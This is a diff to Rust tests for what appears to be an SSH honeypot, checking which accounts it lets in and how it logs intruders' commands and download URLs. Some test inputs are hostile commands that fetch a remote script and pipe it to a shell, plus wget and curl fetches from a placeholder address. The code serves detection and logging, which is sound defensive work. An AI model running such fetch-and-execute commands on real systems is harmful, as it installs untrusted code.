@@ -14,7 +14,7 @@ fn begun(session: SshSession) -> Client {
 }
 
 /// A client that was let in as `root` and has a channel.
-fn inside() -> Client {
+pub(super) fn inside() -> Client {
     let mut client = begun(let_in());
     let answers = client.ask(&password("root", "toor"));
     assert_eq!((answers[0].as_slice(), answers[1][0]), (&[MSG_USERAUTH_SUCCESS][..], MSG_GLOBAL_REQUEST));
@@ -23,7 +23,7 @@ fn inside() -> Client {
 }
 
 /// Everything printed in the channel, complaints too; and the status, if it has ended.
-fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
+pub(super) fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
     let (mut text, mut status) = (Vec::new(), None);
     for payload in answers {
         match payload[0] {
@@ -36,7 +36,7 @@ fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
     (said(&text), status)
 }
 
-fn exec(command: &str) -> (Client, String, Option<u8>) {
+pub(super) fn exec(command: &str) -> (Client, String, Option<u8>) {
     let mut client = inside();
     let answers = client.ask(&channel_request("exec", |out| put_string(out, command.as_bytes())));
     let (text, status) = printed(&answers);
@@ -210,6 +210,13 @@ fn nobody_is_let_in_unless_the_operator_wants_it() {
 }
 
 #[test]
+fn an_account_that_nobody_can_log_in_to_is_never_let_in() {
+    let let_in =
+        |user: &str| begun(Ssh::of(&persona()).letting_in(1).session(7)).ask(&password(user, "a"))[0][0] == MSG_USERAUTH_SUCCESS;
+    assert_eq!(["root", "admin", "www-data", "sync", "nobody"].map(let_in), [true, true, false, false, false]);
+}
+
+#[test]
 fn a_command_is_told_and_answered_without_a_shell() {
     let (client, text, status) = exec("uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
     assert!(text.starts_with("Linux\nbash: line 1: nosuch: command not found\n"), "{text}");
@@ -237,6 +244,18 @@ fn a_terminal_prompts_and_each_line_is_told() {
     assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "id; w");
     let (text, status) = printed(&client.ask(&data(b"exit\r")));
     assert_eq!((text.as_str(), status), ("exit\r\nlogout\r\n", Some(0)));
+}
+
+/// What was made safe once must not be made so again with each further line.
+#[test]
+fn several_lines_of_one_packet_are_told_as_they_were_said() {
+    let (mut client, ..) = exec("sh");
+    client.ask(&data(b"echo \xff\x01\nwget http://198.51.100.9/a\nid\ncurl http://198.51.100.9/b\n"));
+    let found = &client.heard.reports.last().unwrap().0.fields;
+    assert_eq!(found["command"], r"echo \u{dcff}\u{1}; wget http://198.51.100.9/a; id; curl http://198.51.100.9/b");
+    assert_eq!(found["download"], "http://198.51.100.9/a; http://198.51.100.9/b");
+    client.ask(&data(&b"uname -a\n".repeat(200)));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["commands"], "200");
 }
 
 #[test]
